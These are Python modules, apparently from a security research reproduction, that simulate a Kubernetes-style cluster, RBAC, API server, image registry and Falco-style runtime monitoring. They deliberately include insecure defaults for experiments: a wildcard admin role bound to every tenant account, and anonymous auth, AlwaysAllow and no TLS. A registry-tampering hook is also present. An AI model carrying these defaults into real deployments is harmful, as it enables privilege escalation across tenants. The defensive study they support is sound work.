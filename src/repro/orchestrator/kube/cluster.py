"""Cluster assembly: API server + nodes + scheduler + component inventory.

The component inventory (control-plane services, node components, add-ons
with exact versions) is what the KBOM generator (M12) catalogs and what
the Kubernetes CVE feed matches against.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common.clock import SimClock
from repro.common.errors import CapacityError, NotFoundError, QuarantineError
from repro.common.events import EventBus
from repro.orchestrator.kube.apiserver import ApiServer, ApiServerConfig
from repro.orchestrator.kube.objects import Namespace, NetworkPolicy, Pod, PodSpec
from repro.orchestrator.kube.rbac import RbacAuthorizer
from repro.virt.vm import VirtualMachine


@dataclass
class ClusterComponent:
    """One control-plane/node component or add-on (KBOM raw material)."""

    name: str
    version: str
    kind: str          # controlplane | node | addon
    image: str = ""


class KubeCluster:
    """One GENIO Kubernetes cluster spanning an OLT's worker VMs."""

    def __init__(
        self,
        name: str = "genio-edge",
        config: Optional[ApiServerConfig] = None,
        rbac: Optional[RbacAuthorizer] = None,
        clock: Optional[SimClock] = None,
        bus: Optional[EventBus] = None,
    ) -> None:
        self.name = name
        self.clock = clock or SimClock()
        self.bus = bus or EventBus()
        self.api = ApiServer(config=config, rbac=rbac, clock=self.clock, bus=self.bus)
        self.nodes: Dict[str, VirtualMachine] = {}
        self.node_labels: Dict[str, Dict[str, str]] = {}
        self.cordoned: set = set()   # nodes refusing new pods
        self.pods: Dict[str, Pod] = {}
        self.namespaces: Dict[str, Namespace] = {"default": Namespace("default")}
        self.network_policies: List[NetworkPolicy] = []
        version = self.api.config.version
        self.components: List[ClusterComponent] = [
            ClusterComponent("kube-apiserver", version, "controlplane",
                             f"registry.k8s.io/kube-apiserver:v{version}"),
            ClusterComponent("kube-controller-manager", version, "controlplane",
                             f"registry.k8s.io/kube-controller-manager:v{version}"),
            ClusterComponent("kube-scheduler", version, "controlplane",
                             f"registry.k8s.io/kube-scheduler:v{version}"),
            ClusterComponent("etcd", "3.5.1", "controlplane",
                             "registry.k8s.io/etcd:3.5.1"),
            ClusterComponent("kubelet", version, "node"),
            ClusterComponent("kube-proxy", version, "node"),
            ClusterComponent("containerd", "1.6.8", "node"),
            ClusterComponent("coredns", "1.8.6", "addon",
                             "registry.k8s.io/coredns:v1.8.6"),
            ClusterComponent("calico", "3.24.1", "addon"),
        ]

    # -- topology ------------------------------------------------------------------

    def add_node(self, vm: VirtualMachine,
                 labels: Optional[Dict[str, str]] = None) -> None:
        self.nodes[vm.runtime.node_name] = vm
        self.node_labels[vm.runtime.node_name] = dict(labels or {})

    def add_namespace(self, namespace: Namespace) -> None:
        self.namespaces[namespace.name] = namespace

    def add_network_policy(self, policy: NetworkPolicy) -> None:
        self.network_policies.append(policy)

    def ingress_allowed(self, from_namespace: str, to_namespace: str) -> bool:
        """Evaluate namespace-to-namespace reachability under policies."""
        policies = [p for p in self.network_policies if p.namespace == to_namespace]
        if not policies:
            return True  # no policy -> default allow (the k8s default)
        return any(p.allows(from_namespace) for p in policies)

    # -- scheduling ---------------------------------------------------------------------

    def schedule(self, spec: PodSpec) -> Pod:
        """Place a pod on a fitting node and start its container.

        :raises NotFoundError: unknown namespace.
        :raises CapacityError: no node fits.
        :raises QuarantineError: a runtime admission hook refused the image.
        """
        if spec.namespace not in self.namespaces:
            raise NotFoundError(f"namespace {spec.namespace} does not exist")
        last_quarantine: Optional[QuarantineError] = None
        for node_name, vm in sorted(self.nodes.items()):
            if not vm.running or node_name in self.cordoned:
                continue
            labels = self.node_labels.get(node_name, {})
            if any(labels.get(k) != v for k, v in spec.node_selector.items()):
                continue
            try:
                container = vm.runtime.run(spec.to_container_spec())
            except CapacityError:
                continue
            except QuarantineError as exc:
                last_quarantine = exc
                continue
            pod = Pod(spec=spec, node=node_name,
                      container_id=container.id, phase="Running")
            self.pods[pod.key] = pod
            self.bus.emit("kube.scheduled", self.name, self.clock.now,
                          pod=pod.key, node=node_name, tenant=spec.tenant)
            return pod
        if last_quarantine is not None:
            raise last_quarantine
        raise CapacityError(f"no node can fit pod {spec.namespace}/{spec.name}")

    def cordon(self, node_name: str) -> List[Pod]:
        """Refuse new pods on a node and drain the existing ones.

        Used by the attestation gate: a node whose platform state fails
        verification takes no workloads until it re-attests clean.
        """
        if node_name not in self.nodes:
            raise NotFoundError(f"no node {node_name}")
        self.cordoned.add(node_name)
        drained = [pod for pod in list(self.pods.values())
                   if pod.node == node_name]
        for pod in drained:
            self.evict(pod.key)
        self.bus.emit("kube.cordon", self.name, self.clock.now,
                      node=node_name, drained=len(drained))
        return drained

    def uncordon(self, node_name: str) -> None:
        self.cordoned.discard(node_name)

    def evict(self, pod_key: str) -> None:
        pod = self.pods.pop(pod_key, None)
        if pod is None:
            raise NotFoundError(f"no pod {pod_key}")
        vm = self.nodes[pod.node]
        vm.runtime.stop(pod.container_id)

    def pods_in_namespace(self, namespace: str) -> List[Pod]:
        return [p for p in self.pods.values() if p.spec.namespace == namespace]

    def component_versions(self) -> Dict[str, str]:
        return {c.name: c.version for c in self.components}

"""Role-Based Access Control, Kubernetes-style.

T5 in the paper is exactly this surface: over-privileged roles and
insecure-default bindings enable privilege escalation and lateral
movement. The M10 mitigation replaces wildcard grants with
least-privilege roles; the E9 experiment quantifies the before/after
privilege surface using :meth:`RbacAuthorizer.privilege_surface`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Set, Tuple

VERBS = ("get", "list", "watch", "create", "update", "patch", "delete", "escalate")
RESOURCES = ("pods", "pods/exec", "pods/log", "deployments", "secrets",
             "configmaps", "nodes", "services", "networkpolicies",
             "roles", "rolebindings", "serviceaccounts", "events")

# (verb, resource) pairs that enable further escalation if granted broadly.
ESCALATION_SENSITIVE: Set[Tuple[str, str]] = {
    ("create", "pods/exec"), ("get", "secrets"), ("list", "secrets"),
    ("create", "rolebindings"), ("update", "roles"), ("escalate", "roles"),
    ("create", "pods"), ("update", "deployments"), ("delete", "nodes"),
}


@dataclass(frozen=True)
class PolicyRule:
    """verbs x resources, with '*' wildcards."""

    verbs: Tuple[str, ...]
    resources: Tuple[str, ...]

    def matches(self, verb: str, resource: str) -> bool:
        verb_ok = "*" in self.verbs or verb in self.verbs
        res_ok = "*" in self.resources or resource in self.resources
        return verb_ok and res_ok

    def expanded(self) -> Set[Tuple[str, str]]:
        """Concrete (verb, resource) pairs this rule grants."""
        verbs = VERBS if "*" in self.verbs else self.verbs
        resources = RESOURCES if "*" in self.resources else self.resources
        return {(v, r) for v in verbs for r in resources}


@dataclass
class Role:
    """Namespaced role; ``cluster_wide=True`` makes it a ClusterRole."""

    name: str
    rules: List[PolicyRule] = field(default_factory=list)
    namespace: str = ""
    cluster_wide: bool = False

    def allows(self, verb: str, resource: str) -> bool:
        return any(rule.matches(verb, resource) for rule in self.rules)

    def granted_pairs(self) -> Set[Tuple[str, str]]:
        pairs: Set[Tuple[str, str]] = set()
        for rule in self.rules:
            pairs |= rule.expanded()
        return pairs


@dataclass(frozen=True)
class Subject:
    """A user, group, or service account."""

    kind: str   # "User" | "Group" | "ServiceAccount"
    name: str

    @property
    def principal(self) -> str:
        return f"{self.kind}:{self.name}"


@dataclass
class RoleBinding:
    """Binds subjects to a role, in a namespace or cluster-wide."""

    name: str
    role_name: str
    subjects: List[Subject] = field(default_factory=list)
    namespace: str = ""
    cluster_wide: bool = False


class RbacAuthorizer:
    """The cluster's RBAC state and decision point."""

    def __init__(self) -> None:
        self.roles: Dict[Tuple[str, str], Role] = {}       # (namespace|"", name)
        self.bindings: List[RoleBinding] = []
        self.decisions: List[Tuple[str, str, str, str, bool]] = []

    # -- management --------------------------------------------------------------

    def add_role(self, role: Role) -> None:
        key = ("" if role.cluster_wide else role.namespace, role.name)
        self.roles[key] = role

    def bind(self, binding: RoleBinding) -> None:
        self.bindings.append(binding)

    def remove_binding(self, name: str) -> None:
        self.bindings = [b for b in self.bindings if b.name != name]

    # -- decisions ------------------------------------------------------------------

    def authorize(self, subject: Subject, verb: str, resource: str,
                  namespace: str = "") -> bool:
        """The SubjectAccessReview decision."""
        allowed = False
        for binding in self.bindings:
            if not self._binding_covers(binding, subject, namespace):
                continue
            role = self._resolve_role(binding)
            if role is not None and role.allows(verb, resource):
                allowed = True
                break
        self.decisions.append((subject.principal, verb, resource, namespace, allowed))
        return allowed

    def _binding_covers(self, binding: RoleBinding, subject: Subject,
                        namespace: str) -> bool:
        if not binding.cluster_wide and binding.namespace != namespace:
            return False
        for bound in binding.subjects:
            if bound == subject:
                return True
            if bound.kind == "Group" and subject.kind in ("User", "ServiceAccount"):
                # Group membership is carried in the subject name set by authn;
                # the API server expands groups before calling authorize().
                continue
        return False

    def _resolve_role(self, binding: RoleBinding) -> Optional[Role]:
        role = self.roles.get(("", binding.role_name))
        if role is None and binding.namespace:
            role = self.roles.get((binding.namespace, binding.role_name))
        return role

    # -- analysis (E9 metric) -----------------------------------------------------------

    def privilege_surface(self, subject: Subject,
                          namespaces: Iterable[str]) -> Set[Tuple[str, str, str]]:
        """Every (namespace, verb, resource) the subject may perform."""
        surface: Set[Tuple[str, str, str]] = set()
        for namespace in namespaces:
            for binding in self.bindings:
                if not self._binding_covers(binding, subject, namespace):
                    continue
                role = self._resolve_role(binding)
                if role is None:
                    continue
                for verb, resource in role.granted_pairs():
                    surface.add((namespace, verb, resource))
        return surface

    def escalation_risks(self, subject: Subject,
                         namespaces: Iterable[str]) -> Set[Tuple[str, str, str]]:
        """The escalation-sensitive subset of the privilege surface."""
        return {
            (ns, verb, resource)
            for ns, verb, resource in self.privilege_surface(subject, namespaces)
            if (verb, resource) in ESCALATION_SENSITIVE
        }


def permissive_default_rbac() -> RbacAuthorizer:
    """The 'insecure defaults' starting point (paper refs [24][25]).

    One wildcard admin role bound to every operator and to tenant service
    accounts — usability first, exactly what M10 dismantles.
    """
    rbac = RbacAuthorizer()
    rbac.add_role(Role(name="platform-admin",
                       rules=[PolicyRule(verbs=("*",), resources=("*",))],
                       cluster_wide=True))
    rbac.bind(RoleBinding(
        name="everyone-is-admin",
        role_name="platform-admin",
        cluster_wide=True,
        subjects=[
            Subject("User", "ops-alice"),
            Subject("User", "ops-bob"),
            Subject("ServiceAccount", "tenant-a:default"),
            Subject("ServiceAccount", "tenant-b:default"),
            Subject("ServiceAccount", "tenant-a:deployer"),
            Subject("ServiceAccount", "tenant-b:deployer"),
            Subject("ServiceAccount", "kube-system:deployer"),
        ],
    ))
    return rbac

"""The Kubernetes-like API server: authn -> authz -> admission -> store.

Carries the configuration flags the kube-bench-like checks audit
(anonymous auth, insecure port, audit logging, etcd encryption, TLS) and
emits ``kube.audit`` events for every request so the runtime-monitoring
experiments can observe control-plane abuse.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.common.clock import SimClock
from repro.common.errors import AuthenticationError, AuthorizationError
from repro.common.events import EventBus
from repro.orchestrator.kube.rbac import RbacAuthorizer, Subject

# An admission controller: (verb, resource, obj) -> deny reason or None.
AdmissionController = Callable[[str, str, object], Optional[str]]


@dataclass
class ApiServerConfig:
    """Control-plane settings (the M11/kube-bench audit surface)."""

    anonymous_auth: bool = True          # insecure default
    insecure_port_enabled: bool = True   # :8080 without TLS (legacy default)
    tls_enabled: bool = False
    audit_logging: bool = False
    etcd_encryption: bool = False
    authorization_mode: str = "AlwaysAllow"   # or "RBAC"
    admission_plugins: List[str] = field(default_factory=list)
    version: str = "1.24.0"


@dataclass
class AuditEntry:
    """One control-plane request record."""

    principal: str
    verb: str
    resource: str
    namespace: str
    name: str
    allowed: bool
    reason: str
    timestamp: float


class ApiServer:
    """One cluster's API server."""

    def __init__(
        self,
        config: Optional[ApiServerConfig] = None,
        rbac: Optional[RbacAuthorizer] = None,
        clock: Optional[SimClock] = None,
        bus: Optional[EventBus] = None,
    ) -> None:
        self.config = config or ApiServerConfig()
        self.rbac = rbac or RbacAuthorizer()
        self.clock = clock or SimClock()
        self.bus = bus or EventBus()
        self._tokens: Dict[str, Subject] = {}
        self._admission: List[Tuple[str, AdmissionController]] = []
        self._store: Dict[Tuple[str, str, str], object] = {}  # (resource, ns, name)
        self.audit_log: List[AuditEntry] = []

    # -- identity ---------------------------------------------------------------

    def register_token(self, token: str, subject: Subject) -> None:
        self._tokens[token] = subject

    def authenticate(self, token: Optional[str]) -> Subject:
        """Resolve a bearer token to a subject.

        With ``anonymous_auth`` on (the insecure default), a missing or
        unknown token degrades to ``system:anonymous`` instead of failing
        — the misconfiguration kube-bench flags and T5 abuses.
        """
        if token is not None and token in self._tokens:
            return self._tokens[token]
        if self.config.anonymous_auth:
            return Subject("User", "system:anonymous")
        raise AuthenticationError("invalid or missing bearer token")

    # -- admission ----------------------------------------------------------------

    def add_admission_controller(self, name: str,
                                 controller: AdmissionController) -> None:
        self._admission.append((name, controller))
        if name not in self.config.admission_plugins:
            self.config.admission_plugins.append(name)

    # -- the request path ------------------------------------------------------------

    def request(self, token: Optional[str], verb: str, resource: str,
                namespace: str = "", name: str = "",
                obj: object = None) -> object:
        """One API request through the full authn/authz/admission chain.

        :raises AuthenticationError: bad token and anonymous auth off.
        :raises AuthorizationError: RBAC denies, or admission rejects.
        """
        try:
            subject = self.authenticate(token)
        except AuthenticationError:
            # Failed authentications are audited too (they are exactly the
            # probes kube-hunter and attackers generate).
            self._audit(Subject("User", "system:anonymous"), verb, resource,
                        namespace, name, allowed=False,
                        reason="authentication failed")
            raise

        if self.config.authorization_mode == "RBAC":
            allowed = self.rbac.authorize(subject, verb, resource, namespace)
        else:
            allowed = True  # AlwaysAllow: the insecure default

        reason = "ok"
        if not allowed:
            reason = "rbac denied"
        elif verb in ("create", "update", "patch"):
            for plugin_name, controller in self._admission:
                deny = controller(verb, resource, obj)
                if deny is not None:
                    allowed, reason = False, f"admission:{plugin_name}: {deny}"
                    break

        self._audit(subject, verb, resource, namespace, name, allowed, reason)
        if not allowed:
            raise AuthorizationError(
                f"{subject.principal} may not {verb} {resource} "
                f"in {namespace or '<cluster>'}: {reason}"
            )
        return self._apply(verb, resource, namespace, name, obj)

    def _apply(self, verb: str, resource: str, namespace: str,
               name: str, obj: object) -> object:
        key = (resource, namespace, name)
        if verb in ("create", "update", "patch"):
            self._store[key] = obj
            return obj
        if verb == "delete":
            return self._store.pop(key, None)
        if verb == "get":
            return self._store.get(key)
        if verb in ("list", "watch"):
            return [o for (res, ns, _), o in self._store.items()
                    if res == resource and (not namespace or ns == namespace)]
        raise ValueError(f"unknown verb {verb!r}")

    def _audit(self, subject: Subject, verb: str, resource: str,
               namespace: str, name: str, allowed: bool, reason: str) -> None:
        entry = AuditEntry(
            principal=subject.principal, verb=verb, resource=resource,
            namespace=namespace, name=name, allowed=allowed, reason=reason,
            timestamp=self.clock.now,
        )
        if self.config.audit_logging:
            self.audit_log.append(entry)
        self.bus.emit("kube.audit", "apiserver", self.clock.now,
                      principal=subject.principal, verb=verb,
                      resource=resource, namespace=namespace,
                      allowed=allowed, reason=reason)

    # -- convenience ---------------------------------------------------------------

    def stored(self, resource: str, namespace: str = "") -> List[object]:
        return [o for (res, ns, _), o in self._store.items()
                if res == resource and (not namespace or ns == namespace)]

"""Kubernetes-style API objects (the subset the paper's tooling audits).

Pod security context fields mirror the knobs the NSA hardening guidance
and kubesec check: privileged, runAsNonRoot, capabilities, hostPath
volumes, hostNetwork/hostPID, resource limits.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.virt.container import ContainerSpec, Mount, ResourceLimits
from repro.virt.image import ContainerImage


@dataclass
class Namespace:
    """A tenancy boundary inside the cluster."""

    name: str
    labels: Dict[str, str] = field(default_factory=dict)
    pod_security_level: str = "privileged"   # privileged | baseline | restricted


@dataclass
class ServiceAccount:
    """Workload identity; pods run as one of these."""

    name: str
    namespace: str
    automount_token: bool = True

    @property
    def principal(self) -> str:
        return f"system:serviceaccount:{self.namespace}:{self.name}"


@dataclass
class Secret:
    """A namespaced secret object."""

    name: str
    namespace: str
    data: Dict[str, bytes] = field(default_factory=dict)


@dataclass
class PodSecurityContext:
    """Pod/container-level security knobs."""

    privileged: bool = False
    run_as_non_root: bool = False
    run_as_user: Optional[int] = None
    allow_privilege_escalation: bool = True
    added_capabilities: Tuple[str, ...] = ()
    dropped_capabilities: Tuple[str, ...] = ()
    read_only_root_filesystem: bool = False
    seccomp_profile: str = "unconfined"   # k8s default pre-1.25 behaviour


@dataclass
class PodSpec:
    """Desired state for one pod (single-container model)."""

    name: str
    namespace: str
    image: ContainerImage
    service_account: str = "default"
    security: PodSecurityContext = field(default_factory=PodSecurityContext)
    host_network: bool = False
    host_pid: bool = False
    host_path_volumes: Tuple[str, ...] = ()
    limits: ResourceLimits = field(default_factory=ResourceLimits)
    node_selector: Dict[str, str] = field(default_factory=dict)
    labels: Dict[str, str] = field(default_factory=dict)
    tenant: str = "unassigned"

    def to_container_spec(self) -> ContainerSpec:
        """Lower this pod to a runtime container spec."""
        from repro.virt.container import DEFAULT_CAPABILITIES
        caps = set(DEFAULT_CAPABILITIES)
        caps |= set(self.security.added_capabilities)
        caps -= set(self.security.dropped_capabilities)
        mounts = [Mount(host_path=p, container_path=p) for p in self.host_path_volumes]
        return ContainerSpec(
            image=self.image,
            name=self.name,
            privileged=self.security.privileged,
            capabilities=caps,
            mounts=mounts,
            limits=self.limits,
            host_network=self.host_network,
            host_pid=self.host_pid,
            no_new_privileges=not self.security.allow_privilege_escalation,
            read_only_rootfs=self.security.read_only_root_filesystem,
            seccomp_profile=("default" if self.security.seccomp_profile
                             in ("runtime/default", "default") else "unconfined"),
            tenant=self.tenant,
        )


@dataclass
class Pod:
    """A scheduled pod bound to a node."""

    spec: PodSpec
    node: str = ""
    container_id: str = ""
    phase: str = "Pending"   # Pending | Running | Failed | Succeeded

    @property
    def key(self) -> str:
        return f"{self.spec.namespace}/{self.spec.name}"


@dataclass
class NetworkPolicy:
    """Namespace-scoped traffic policy (default-deny support)."""

    name: str
    namespace: str
    default_deny_ingress: bool = False
    allowed_from_namespaces: Tuple[str, ...] = ()

    def allows(self, from_namespace: str) -> bool:
        if not self.default_deny_ingress:
            return True
        return from_namespace in self.allowed_from_namespaces

"""Middleware orchestration substrate.

GENIO orchestrates VMs and containerized applications with Kubernetes and
Proxmox (Section II of the paper). This package models both — enough
surface for the middleware-level threats (T5 privilege abuse via RBAC
misconfiguration, T6 vulnerable middleware) and their mitigations (M10
least privilege, M11 benchmark compliance, M12 vulnerability tracking
with KBOM) to be exercised for real.
"""

from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.apiserver import ApiServer, ApiServerConfig
from repro.orchestrator.kube.rbac import (
    PolicyRule, RbacAuthorizer, Role, RoleBinding, Subject,
)
from repro.orchestrator.kube.objects import (
    Namespace, Pod, PodSpec, PodSecurityContext, Secret, ServiceAccount,
)
from repro.orchestrator.proxmox import ProxmoxCluster
from repro.orchestrator.registry import ImageRegistry

__all__ = [
    "KubeCluster",
    "ApiServer",
    "ApiServerConfig",
    "PolicyRule",
    "RbacAuthorizer",
    "Role",
    "RoleBinding",
    "Subject",
    "Namespace",
    "Pod",
    "PodSpec",
    "PodSecurityContext",
    "Secret",
    "ServiceAccount",
    "ProxmoxCluster",
    "ImageRegistry",
]

"""The GENIO public container-image registry.

Business users publish edge applications here (Section II, "Use cases").
Images can come from GENIO's own build pipeline or be *reused from
external repositories* — the T8 supply-chain vector. The registry
supports optional image signing (content trust); pull policy on nodes can
require a valid signature.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common import crypto
from repro.common.errors import IntegrityError, NotFoundError
from repro.virt.image import ContainerImage


@dataclass
class RegistryEntry:
    """One published image plus its provenance and optional signature."""

    image: ContainerImage
    publisher: str
    digest: str
    signature: bytes = b""
    signer_fingerprint: str = ""
    pulls: int = 0


class ImageRegistry:
    """A content-addressed image store with optional content trust."""

    def __init__(self, name: str = "registry.genio.example",
                 signing_keypair: Optional[crypto.RsaKeyPair] = None) -> None:
        self.name = name
        self._signing_keypair = signing_keypair
        self._entries: Dict[str, RegistryEntry] = {}

    def publish(self, image: ContainerImage, publisher: str,
                sign: bool = False) -> RegistryEntry:
        """Publish an image; ``sign=True`` attaches a registry signature."""
        digest = image.digest()
        entry = RegistryEntry(image=image, publisher=publisher, digest=digest)
        if sign:
            if self._signing_keypair is None:
                raise ValueError(f"registry {self.name} has no signing key")
            entry.signature = self._signing_keypair.sign(digest.encode())
            entry.signer_fingerprint = self._signing_keypair.public.fingerprint()
        self._entries[image.reference] = entry
        return entry

    def pull(self, reference: str, require_signature: bool = False,
             trusted_keys: Optional[List[crypto.RsaPublicKey]] = None) -> ContainerImage:
        """Pull an image, optionally enforcing content trust.

        :raises IntegrityError: signature required but missing/invalid, or
            the stored image no longer matches its published digest.
        """
        entry = self._entries.get(reference)
        if entry is None:
            raise NotFoundError(f"{reference} not in registry {self.name}")
        current_digest = entry.image.digest()
        if current_digest != entry.digest:
            raise IntegrityError(
                f"{reference}: stored image diverged from published digest"
            )
        if require_signature:
            keys = trusted_keys or []
            if not entry.signature:
                raise IntegrityError(f"{reference} is unsigned")
            if not any(k.verify(entry.digest.encode(), entry.signature)
                       for k in keys):
                raise IntegrityError(
                    f"{reference}: signature does not verify against trusted keys"
                )
        entry.pulls += 1
        return entry.image

    def entries(self) -> List[RegistryEntry]:
        return list(self._entries.values())

    def catalog(self) -> List[str]:
        return sorted(self._entries)

    def tamper(self, reference: str, path: str, content: bytes) -> None:
        """Simulate a supply-chain compromise: modify a stored layer."""
        entry = self._entries.get(reference)
        if entry is None:
            raise NotFoundError(f"{reference} not in registry {self.name}")
        if not entry.image.layers:
            entry.image.add_layer({})
        entry.image.layers[-1].files[path] = content

"""Automated incident response: closing the M18 -> M17 loop.

Falco observes without blocking (by design); in production somebody still
has to *act* on the alerts. The responder subscribes to the monitoring
engine's alert stream and applies a tiered policy:

* CRITICAL alerts from a tenant container -> kill the container and
  quarantine the tenant (no new admissions);
* repeated WARNING alerts from the same container within a window ->
  kill the container;
* everything is recorded for the audit trail the operators review.

This models the "early detection of post-exploitation activities" the
paper attributes to runtime monitoring, carried to the response step.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set

from repro.security.monitor.falco import Alert, FalcoEngine, Priority
from repro.virt.container import ContainerSpec
from repro.virt.runtime import ContainerRuntime


@dataclass
class ResponseAction:
    """One action the responder took."""

    kind: str             # "kill" | "quarantine-tenant" | "note"
    target: str
    triggered_by: str
    timestamp: float


class IncidentResponder:
    """Applies the response policy to a runtime's alert stream."""

    def __init__(self, runtime: ContainerRuntime, engine: FalcoEngine,
                 warning_threshold: int = 3) -> None:
        if warning_threshold < 1:
            raise ValueError("warning_threshold must be >= 1")
        self.runtime = runtime
        self.engine = engine
        self.warning_threshold = warning_threshold
        self.actions: List[ResponseAction] = []
        self.quarantined_tenants: Set[str] = set()
        self._warning_counts: Dict[str, int] = {}
        self._processed_alerts = 0
        runtime.add_admission_hook(self._admission_gate)

    # -- policy --------------------------------------------------------------

    def _admission_gate(self, spec: ContainerSpec) -> Optional[str]:
        if spec.tenant in self.quarantined_tenants:
            return f"tenant {spec.tenant} is quarantined by incident response"
        return None

    def process_new_alerts(self) -> List[ResponseAction]:
        """Evaluate alerts that arrived since the last call."""
        new_alerts = self.engine.alerts[self._processed_alerts:]
        self._processed_alerts = len(self.engine.alerts)
        taken: List[ResponseAction] = []
        for alert in new_alerts:
            taken.extend(self._respond(alert))
        self.actions.extend(taken)
        return taken

    def _respond(self, alert: Alert) -> List[ResponseAction]:
        container = self._container_for(alert)
        if container is None:
            return []
        actions: List[ResponseAction] = []
        if alert.priority >= Priority.CRITICAL:
            if container.running:
                self.runtime.kill(container.id,
                                  f"incident response: {alert.rule}")
                actions.append(ResponseAction(
                    "kill", container.id, alert.rule, alert.timestamp))
            if container.tenant not in self.quarantined_tenants:
                self.quarantined_tenants.add(container.tenant)
                actions.append(ResponseAction(
                    "quarantine-tenant", container.tenant, alert.rule,
                    alert.timestamp))
            return actions
        if alert.priority >= Priority.WARNING:
            count = self._warning_counts.get(container.id, 0) + 1
            self._warning_counts[container.id] = count
            if count >= self.warning_threshold and container.running:
                self.runtime.kill(
                    container.id,
                    f"incident response: {count} warnings "
                    f"(last: {alert.rule})")
                actions.append(ResponseAction(
                    "kill", container.id, alert.rule, alert.timestamp))
        return actions

    def _container_for(self, alert: Alert):
        # Alert summaries carry container=<id> for runtime.syscall events.
        for token in alert.summary.split():
            if token.startswith("container="):
                return self.runtime.containers.get(token.split("=", 1)[1])
        return None

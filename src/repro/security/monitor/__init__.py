"""M18: Falco-style runtime monitoring."""

from repro.security.monitor.falco import (
    Alert, FalcoEngine, FalcoRule, Priority, default_rules,
)
from repro.security.monitor.abuse import AbuseFinding, ResourceAbuseDetector
from repro.security.monitor.correlate import (
    Incident, LiveCorrelator, correlate, triage,
)
from repro.security.monitor.forensics import EvidenceBundle, ForensicCollector
from repro.security.monitor.response import IncidentResponder
from repro.security.monitor.rulespec import compile_rule, compile_ruleset

__all__ = [
    "Alert",
    "FalcoEngine",
    "FalcoRule",
    "Priority",
    "default_rules",
    "AbuseFinding",
    "ResourceAbuseDetector",
    "Incident",
    "LiveCorrelator",
    "correlate",
    "triage",
    "EvidenceBundle",
    "ForensicCollector",
    "IncidentResponder",
    "compile_rule",
    "compile_ruleset",
]

"""Declarative Falco rule specifications (the customizable rule set).

Operators tune Falco by editing YAML rules, not Python. This module
compiles a dict-based rule specification — field predicates combined with
``all``/``any``/``not`` — into :class:`~repro.security.monitor.falco.FalcoRule`
objects, including exceptions, so the Lesson 8 tuning loop is data-driven:

    {"rule": "tmp_exec", "desc": "execution from /tmp",
     "priority": "ERROR", "topics": ["runtime.syscall"],
     "condition": {"all": [
         {"field": "syscall", "in": ["execve", "execveat"]},
         {"field": "path", "startswith": "/tmp/"}]},
     "exceptions": [{"field": "tenant", "equals": "ops-debug"}]}
"""

from __future__ import annotations

from typing import Any, Callable, Dict, List, Sequence

from repro.common.errors import ConfigurationError
from repro.common.events import Event
from repro.security.monitor.falco import FalcoRule, Priority

Predicate = Callable[[Event], bool]

_OPERATORS = ("equals", "in", "startswith", "endswith", "contains",
              "exists", "gt", "lt")


def _compile_leaf(spec: Dict[str, Any]) -> Predicate:
    field = spec.get("field")
    if not field:
        raise ConfigurationError(f"predicate needs a 'field': {spec!r}")
    present = [op for op in _OPERATORS if op in spec]
    if len(present) != 1:
        raise ConfigurationError(
            f"predicate on {field!r} needs exactly one operator of "
            f"{_OPERATORS}, got {present}")
    operator = present[0]
    expected = spec[operator]

    def predicate(event: Event) -> bool:
        value = event.get(field)
        if operator == "exists":
            return (value is not None) == bool(expected)
        if value is None:
            return False
        if operator == "equals":
            return value == expected
        if operator == "in":
            return value in expected
        if operator == "startswith":
            return str(value).startswith(expected)
        if operator == "endswith":
            return str(value).endswith(expected)
        if operator == "contains":
            return expected in str(value)
        if operator == "gt":
            return value > expected
        return value < expected   # lt

    return predicate


def compile_condition(spec: Dict[str, Any]) -> Predicate:
    """Compile a condition tree into a predicate."""
    if "all" in spec:
        children = [compile_condition(child) for child in spec["all"]]
        return lambda event: all(child(event) for child in children)
    if "any" in spec:
        children = [compile_condition(child) for child in spec["any"]]
        return lambda event: any(child(event) for child in children)
    if "not" in spec:
        inner = compile_condition(spec["not"])
        return lambda event: not inner(event)
    return _compile_leaf(spec)


def compile_rule(spec: Dict[str, Any]) -> FalcoRule:
    """Compile one rule specification.

    :raises ConfigurationError: missing keys, bad priority, bad predicates.
    """
    for key in ("rule", "desc", "topics", "condition"):
        if key not in spec:
            raise ConfigurationError(f"rule spec missing {key!r}: {spec!r}")
    try:
        priority = Priority[spec.get("priority", "WARNING")]
    except KeyError:
        raise ConfigurationError(
            f"unknown priority {spec.get('priority')!r}; "
            f"use one of {[p.name for p in Priority]}")
    rule = FalcoRule(
        name=spec["rule"],
        description=spec["desc"],
        topics=tuple(spec["topics"]),
        condition=compile_condition(spec["condition"]),
        priority=priority,
    )
    for exception_spec in spec.get("exceptions", []):
        rule.add_exception(compile_condition(exception_spec))
    return rule


def compile_ruleset(specs: Sequence[Dict[str, Any]]) -> List[FalcoRule]:
    """Compile a whole declarative rule file, rejecting duplicate names."""
    rules: List[FalcoRule] = []
    seen = set()
    for spec in specs:
        rule = compile_rule(spec)
        if rule.name in seen:
            raise ConfigurationError(f"duplicate rule name {rule.name!r}")
        seen.add(rule.name)
        rules.append(rule)
    return rules

"""Forensic evidence bundles for incidents (operational M18).

When the correlator flags a campaign, responders need the *evidence*:
every bus event involving the suspect tenant inside the incident window,
the alerts themselves, and any integrity findings from the same period.
The bundle is serialized deterministically and sealed with a digest plus
a signature, so the chain of custody survives the trip to whoever does
the post-incident review (or the CE/CRA incident-reporting obligation).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

from repro.common import crypto
from repro.common.errors import IntegrityError
from repro.common.events import Event, EventBus
from repro.security.monitor.correlate import Incident


@dataclass
class EvidenceBundle:
    """A sealed evidence package for one incident."""

    incident_key: str
    window: Dict[str, float]
    alerts: List[dict]
    events: List[dict]
    integrity_findings: List[dict]
    digest: str = ""
    signature: bytes = b""

    def canonical_bytes(self) -> bytes:
        body = {
            "incident_key": self.incident_key,
            "window": self.window,
            "alerts": self.alerts,
            "events": self.events,
            "integrity_findings": self.integrity_findings,
        }
        return json.dumps(body, sort_keys=True).encode()

    def to_json(self) -> str:
        body = json.loads(self.canonical_bytes())
        body["digest"] = self.digest
        return json.dumps(body, indent=2, sort_keys=True)


class ForensicCollector:
    """Builds and seals evidence bundles from the platform's streams."""

